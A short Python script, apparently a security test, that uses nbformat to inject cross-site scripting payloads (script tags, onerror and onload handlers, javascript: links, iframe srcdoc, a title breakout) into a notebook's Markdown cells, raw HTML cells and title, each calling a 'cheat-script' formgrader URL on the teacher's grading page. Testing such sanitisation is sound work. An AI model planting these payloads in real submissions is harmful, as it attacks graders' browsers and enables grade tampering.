"""Writes scripts and handlers in Markdown cells, names and attachments, for the page where a teacher looks at the work."""

import nbformat


def edit(notebook, folder):
    script = "fetch('/formgrader?cheat-script')"
    text = f'<script>{script}</script><img src=x onerror="{script}"><a href="javascript:{script}">grades</a>\n\n'
    text += f"[grades](javascript:{script}) <svg onload=\"{script}\"></svg> <iframe srcdoc='<script>{script}</script>'>"
    notebook.cells.append(nbformat.v4.new_markdown_cell(text))
    notebook.cells.append(nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
    notebook.metadata.title = f"</title><script>{script}</script>"
